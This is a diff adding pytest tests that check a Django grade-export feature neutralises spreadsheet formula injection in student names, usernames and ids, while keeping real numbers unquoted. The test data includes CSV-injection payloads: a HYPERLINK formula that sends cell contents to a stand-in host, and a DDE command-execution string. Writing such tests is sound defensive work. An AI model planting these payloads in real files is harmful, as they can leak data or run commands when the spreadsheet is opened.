@@ -135,9 +135,57 @@ def test_the_command_writes_the_same_csv(standings, tmp_path):
     downloaded = client.get("/homeworks/hw1/grades.csv").content.decode()
     out = tmp_path / "grades.csv"
     call_command("export_grades", "hw1", out=str(out))
-    assert out.read_text() == downloaded
+    assert out.read_bytes().decode() == downloaded
     stdout = io.StringIO()
     call_command("export_grades", "hw1", stdout=stdout)
     assert stdout.getvalue() == downloaded
     with pytest.raises(CommandError, match="no homework"):
         call_command("export_grades", "nope")
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_no_text_cell_runs_as_a_formula_in_a_spreadsheet(roster, make, hw, course, formula):
+    """A student's own name, username and student id never start a formula in the grades CSV."""
+    roster["student"].first_name, roster["student"].last_name = formula, ""
+    roster["student"].save()
+    roster["other_student"].username = formula
+    roster["other_student"].save()
+    Membership.objects.filter(course=course, user=roster["carol"]).update(student_id=formula)
+    make(roster["student"], public=0.9, private=0.5, minutes=1)
+    make(roster["other_student"], public=0.8, private=0.25, minutes=2)
+    reveal_private(homework=hw)
+    client = Client()
+    client.force_login(roster["ta"])
+    downloaded = client.get("/homeworks/hw1/grades.csv").content.decode()
+    stdout = io.StringIO()
+    call_command("export_grades", "hw1", stdout=stdout)
+    assert stdout.getvalue() == downloaded
+    cells = [cell for row in read(downloaded) for cell in row.values()]
+    assert [c for c in cells if c.lstrip(" ")[:1] in set("=+-@\t\r\uff1d")] == []
+    # the name of one, the name and username of another, the student id of a third: shown as the text
+    # they are, behind the apostrophe that spreadsheets hide
+    hostile = [c for c in cells if formula.strip() in c]
+    assert len(hostile) == 4 and all(c.startswith("'") for c in hostile), hostile
+    assert len(read(downloaded)) == 3  # a CR inside a cell starts no row of its own
+
+
+def test_numbers_stay_numbers_negative_ones_too(roster, make, hw, course):
+    """A negative late penalty (a bonus) and plain-number student ids are not quoted: a spreadsheet
+    still sums them."""
+    Membership.objects.filter(course=course, user=roster["student"]).update(student_id="-17")
+    Membership.objects.filter(course=course, user=roster["other_student"]).update(student_id="+2.5e3")
+    make(roster["student"], public=0.9, private=0.5, minutes=1, late_penalty=-0.25)
+    reveal_private(homework=hw)
+    rows = {row["username"]: row for row in read(grades_frame_csv(hw))}
+    assert rows["student"]["late_penalty"] == "-0.25" and rows["student"]["final_score"] == "0.625"
+    assert rows["student"]["student_id"] == "-17" and rows["other_student"]["student_id"] == "+2.5e3"
+
+
+def grades_frame_csv(hw) -> str:
+    from basin.leaderboard.export import grades_csv
+
+    return grades_csv(hw)
